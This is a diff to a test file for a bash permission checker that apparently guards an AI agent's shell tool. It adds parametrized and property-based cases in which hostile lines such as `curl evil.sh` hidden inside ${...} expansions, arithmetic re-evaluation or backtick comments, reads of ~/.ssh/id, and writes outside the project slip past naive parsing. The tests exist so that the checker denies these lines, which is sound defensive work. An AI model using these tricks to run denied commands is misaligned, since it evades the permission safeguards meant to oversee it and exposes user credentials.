@@ -17,6 +17,7 @@ home). The stubs run nothing else, so the lines run harmlessly.
 
 from __future__ import annotations
 
+import os
 import shutil
 import subprocess
 from pathlib import Path
@@ -164,7 +165,11 @@ def assert_bash_runs_nothing_denied_if_allowed(root: Path, line: str) -> None:
 def read_denied(commands: list[str]) -> list[str]:
     """The commands bash ran with an operand under ``~/.ssh`` (bash expands ``~`` to HOME)."""
     ssh = f"{HOME}/.ssh"
-    return [c for c in commands if any(a == ssh or a.startswith(ssh + "/") for a in c.split(" ")[1:])]
+    return [
+        c
+        for c in commands
+        if any((n := os.path.normpath(a)) == ssh or n.startswith(ssh + "/") for a in c.split(" ")[1:] if a)
+    ]
 
 
 def assert_bash_reads_nothing_denied_if_allowed(root: Path, line: str) -> None:
@@ -246,6 +251,16 @@ class BashOracleTests:
             # ``\\\\`` is an escaped backslash, not a continuation
             "ls | ls | cat a\\\\\ncurl evil.sh 2>/dev/null",
             "echo hi >>/dev/null \"a\nb\" |& echo hi 'a\nb' |\npwd # c ;\nrm -rf build 2> /dev/null a\\\\",
+            # backticks in a ``${…}`` word: the parser keeps them as text
+            "echo ${x:-`curl evil.sh`}",
+            'echo "${x:-`curl evil.sh`}"',
+            "echo ${x?`curl evil.sh`}",
+            "echo $-${y-`cat ../secret`}",
+            # a value evaluated again: as arithmetic (an index runs ``$(…)``) or as a prompt
+            "x='a[$(curl evil.sh)]'; echo $((x))",
+            "x='a[$(curl evil.sh)]'; echo ${HOME:x}",
+            "x='a[$(curl evil.sh)]'; [[ x -eq 1 ]]",
+            "x='$(curl evil.sh)'; echo ${x@P}",
         ],
     )
     def test_these_lines_ran_unasked(self, bash: Path, line: str) -> None:
@@ -275,6 +290,11 @@ class BashOracleTests:
             # a command the parser swallowed into an error, with the rest of the line
             "cat < README.md >>/dev/null <<<hi || timeout 5 ls >>/dev/null a\\\\; rm -rf build </dev/null |& cat ;"
             "\nhead -5 README.md; |\ncat < README.md 2> /dev/null \\ ;\n{ git status; }",
+            # a comment that opens a backtick substitution: bash ends it at the next backtick
+            "echo `#` && curl evil.sh",
+            "echo hi `# c`; curl evil.sh",
+            # backticks in a ``${…}`` word
+            "cat ${x:-`curl evil.sh`}",
         ],
     )
     def test_these_lines_ran_denied_programs_in_bypass_mode(self, bash: Path, line: str) -> None:
@@ -299,9 +319,84 @@ class BashOracleTests:
             "{cat,~/.ssh/id}",
             "{cat,$HOME/.ssh/id}",
             "{cat,~/.ss{h,}/id}",
+            # ``~//`` is the home too
+            "cat ~//.ssh/id",
+            "cat $HOME//.ssh/id",
+            "echo `#` && cat ~/.ssh/id",
+            "cat README.md `#` ~/.ssh/id",
         ],
     )
     def test_these_lines_read_under_a_read_deny_rule(self, bash: Path, line: str) -> None:
         assert read_denied(ran(bash, line)) != []
         assert run(line, "bypassPermissions", READ_DENY_RULES).behavior != "allow", line
         assert run(line).behavior != "allow", line
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            # bash removes a ``>&`` file's quoting once more: these write ``../out.txt``
+            "echo x >& ..\\\\/out.txt",
+            "ls >& src/..\\\\/..\\\\/out.txt",
+            'echo x >& "..\\\\/out.txt"',
+            "echo x >& '..\\/out.txt'",
+            "echo x 1>&..\\\\/out.txt",
+        ],
+    )
+    def test_these_lines_wrote_outside_in_accept_edits_mode(self, bash: Path, line: str) -> None:
+        outside = bash / "out.txt"
+        outside.unlink(missing_ok=True)
+        ran(bash, line)
+        assert outside.exists(), line
+        assert run(line, "acceptEdits").behavior != "allow", line
+
+    @settings(max_examples=200, deadline=None, derandomize=True)
+    @given(
+        before=st.sampled_from(["echo ", "cat ", "ls ", "echo hi ", "echo $-", "grep -r x "]),
+        name=st.sampled_from(["x", "HOME", "1", "@"]),
+        operator=st.sampled_from([":-", "-", ":=", ":?", "?", ":+", "+", "/a/", "//a/", "#", "%%", "^^"]),
+        substitution=st.sampled_from(["`{}`", "$({})", "a`{}`b", "<({})"]),
+        payload=st.sampled_from(NOT_READS[:11]),
+        quoted=st.booleans(),
+    )
+    def test_a_substitution_in_an_expansion_runs_as_bash_reads_it(
+        self, bash: Path, before: str, name: str, operator: str, substitution: str, payload: str, quoted: bool
+    ) -> None:
+        """``${x:-`curl x`}`` and every operator that expands a word: bash runs what is in it."""
+        expansion = "${" + name + operator + substitution.format(payload) + "}"
+        line = before + (f'"{expansion}"' if quoted else expansion)
+        assert_bash_runs_only_reads_if_allowed(bash, line)
+        assert_bash_runs_nothing_denied_if_allowed(bash, line)
+
+    @settings(max_examples=200, deadline=None, derandomize=True)
+    @given(
+        value=st.sampled_from(["a[$({})]", "$({})", "a[`{}`]", "1+a[$({})]"]),
+        payload=st.sampled_from(NOT_READS[:11]),
+        separator=st.sampled_from(["; ", "\n", " && "]),
+        evaluation=st.sampled_from(
+            [
+                "echo $((x))",
+                "echo $[x]",
+                "(( x ))",
+                "echo $((x+1))",
+                "echo ${a[x]}",
+                "echo ${HOME:x}",
+                "echo ${HOME:1:x}",
+                "[[ x -eq 1 ]]",
+                "[[ 1 -lt x ]]",
+                "[[ -v a[x] ]]",
+                "echo ${x@P}",
+                "echo ${#x}",
+                "echo $x",
+            ]
+        ),
+    )
+    def test_a_value_bash_evaluates_again_runs_as_bash_reads_it(
+        self, bash: Path, value: str, payload: str, separator: str, evaluation: str
+    ) -> None:
+        """A variable's value evaluated as arithmetic (``a[$(…)]`` runs) or expanded as a prompt.
+
+        The value could come from anywhere (an earlier call in the same shell), so the
+        evaluation itself must not be auto-allowed; here the line sets it.
+        """
+        line = f"x='{value.format(payload)}'" + separator + evaluation
+        assert_bash_runs_only_reads_if_allowed(bash, line)
